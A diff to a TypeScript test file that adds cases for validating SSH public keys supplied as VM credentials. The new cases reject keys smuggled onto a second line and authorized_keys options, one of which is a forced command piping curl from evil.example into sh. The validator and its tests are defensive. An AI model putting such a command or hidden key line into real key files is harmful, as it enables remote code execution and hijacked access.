@@ -22,6 +22,8 @@ function craftedKey(type: string, ...fields: Buffer[]): string {
 }
 
 const ED25519_BODY = KEYGEN_ED25519_KEY.split(" ")[1] ?? "";
+const ONE_KEY_ONE_LINE = `is not an OpenSSH public key: it holds a line break or another control character, and an entry is one key on one line ("<type> <base64> [comment]") (give the whole line of the .pub file).`;
+const OPTIONS = `is not an OpenSSH public key: it starts with authorized_keys options, which the stack does not take ("<type> <base64> [comment]") (give the whole line of the .pub file).`;
 
 const TOO_SHORT = (length: number): string => `[secret] is ${length} characters; Windows passwords must be 8 to 123 (choose another password).`;
 const FEW_CLASSES = (classes: number): string => `[secret] has ${classes} of the 4 character classes; Azure needs 3 of lower case, upper case, digit and special character (choose another password).`;
@@ -228,6 +230,28 @@ const REJECTED: readonly Rejected[] = [
         os: "linux", args: {}, credentials: { sshPublicKeys: [craftedKey("ssh-rsa", Buffer.from([1, 0, 1]))] },
         problems: [{ path: "sshPublicKeys[0]", message: "is not an OpenSSH public key: its RSA key data is incomplete (give the whole line of the .pub file)." }],
     },
+    // One key per entry: the value becomes the VM's keyData and the access extension's ssh_key, which replaces the
+    // whole authorized_keys file, so a second line would be a second key, and options would limit or hijack the key.
+    {
+        scenario: "a second key on a second line",
+        os: "linux", args: {}, credentials: { sshPublicKeys: [`${KEYGEN_ED25519_KEY}\n${RSA_2048_KEY}`] },
+        problems: [{ path: "sshPublicKeys[0]", message: ONE_KEY_ONE_LINE }],
+    },
+    {
+        scenario: "a DSA key hidden on a line after a good key, behind a carriage return",
+        os: "linux", args: {}, credentials: { sshPublicKeys: [`${KEYGEN_ED25519_KEY}\r${DSA_KEY}`] },
+        problems: [{ path: "sshPublicKeys[0]", message: ONE_KEY_ONE_LINE }],
+    },
+    {
+        scenario: "a forced command in front of the key",
+        os: "linux", args: {}, credentials: { sshPublicKeys: [`command="/usr/bin/curl evil.example | sh" ${KEYGEN_ED25519_KEY}`] },
+        problems: [{ path: "sshPublicKeys[0]", message: OPTIONS }],
+    },
+    {
+        scenario: "an option word in front of the key",
+        os: "linux", args: {}, credentials: { sshPublicKeys: [`no-pty ${KEYGEN_ED25519_KEY}`] },
+        problems: [{ path: "sshPublicKeys[0]", message: OPTIONS }],
+    },
     {
         scenario: "an ED25519 key of 31 bytes",
         os: "linux", args: {}, credentials: { sshPublicKeys: [craftedKey("ssh-ed25519", Buffer.alloc(31, 7))] },
@@ -239,6 +263,14 @@ const LINUX_USERNAME_64 = `ops_${"a".repeat(60)}`;
 const PASSWORD_123 = `Aa1-${"x".repeat(119)}`;
 
 const ACCEPTED: readonly Accepted[] = [
+    {
+        scenario: "a key whose comment has spaces",
+        os: "linux", args: {}, credentials: { sshPublicKeys: [`${KEYGEN_ED25519_KEY.split(" ").slice(0, 2).join(" ")} ops team laptop (2026)`] },
+    },
+    {
+        scenario: "a key line read from its file, with the file's final newline",
+        os: "linux", args: {}, credentials: { sshPublicKeys: [`${KEYGEN_ED25519_KEY}\n`] },
+    },
     {
         scenario: "a 20-character Windows username",
         os: "windows", args: { adminUsername: "azureadministrator01" },
